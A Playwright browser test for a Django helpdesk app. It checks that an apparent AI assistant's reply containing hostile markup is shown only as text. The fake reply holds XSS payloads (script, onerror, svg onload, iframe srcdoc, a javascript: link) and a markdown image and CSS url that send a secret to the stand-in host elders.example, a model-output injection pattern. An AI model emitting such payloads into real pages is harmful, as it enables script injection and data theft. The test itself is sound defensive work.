"""The worst of what a model may say, in a real browser: it stands there as words, and nothing is fetched or run."""

import os
from urllib.parse import urlsplit

import pytest
from django.utils import timezone
from playwright.sync_api import Dialog, Request, expect
from pytest_django.live_server_helper import LiveServer
from tests import cast, make
from tests.browser import Window, browser, window
from tests.desk.live_driver import sign_in
from tests.fakes.completions import Mind

from wortel.assist.models import Errand, Supplier
from wortel.assist.tasks import run_errand

__all__ = ["browser", "window"]

os.environ.setdefault("DJANGO_ALLOW_ASYNC_UNSAFE", "true")

WORST = (
    '<img src=x onerror=alert(1)><script>alert(2)</script></textarea></div></form>" onmouseover="alert(3)'
    "![a](https://elders.example/p.png?q=geheim)\n[klik](javascript:alert(4)) {{ 7|add:7 }}\n"
    "<svg/onload=alert(5)><iframe srcdoc='<script>alert(6)</script>'></iframe>"
    "<style>*{background:url(//elders.example)}</style>"
    "<meta http-equiv=refresh content='0;url=https://elders.example'> einde [1] [8]"
)


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_worst_answer_is_only_words(
    live_server: LiveServer, window: Window, supplier: Supplier, mind: Mind
) -> None:
    mind.says(WORST)
    case = make.make_case(cast.marijke(), "Bank", "Waar is mijn bank?", at=timezone.now(), mailbox=cast.mailbox())
    page, outside, dialogs = window.page, [], []

    def see(request: Request) -> None:
        if urlsplit(request.url).netloc != urlsplit(live_server.url).netloc and not request.url.startswith("data:"):
            outside.append(request.url)

    def hear(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    window.context.add_cookies([{"name": "wortel", "value": sign_in(cast.noor()), "url": live_server.url}])
    page.on("request", see)
    page.on("dialog", hear)
    page.goto(f"{live_server.url}/cases/{case.pk}/")
    page.keyboard.press("d")
    expect(page.locator("#assist")).to_contain_text("De assistent schrijft")
    run_errand(errand=Errand.objects.get().pk)
    expect(page.locator("[data-words]")).to_contain_text("einde")
    assert page.locator("[data-words] > :not(sup, span), [data-words] > * *").count() == 0
    assert page.locator("#assist").locator("img, script, iframe, style, svg[onload], meta, a").count() == 0
    page.get_by_role("button", name="Overnemen").click()
    taken = page.locator("#answer-text").input_value()
    assert taken.startswith("<img src=x onerror=alert(1)>")
    assert taken.endswith("einde")
    page.locator("#assist summary").click()
    page.locator("#assist pre").last.hover()
    page.wait_for_timeout(300)
    assert (outside, dialogs) == ([], [])
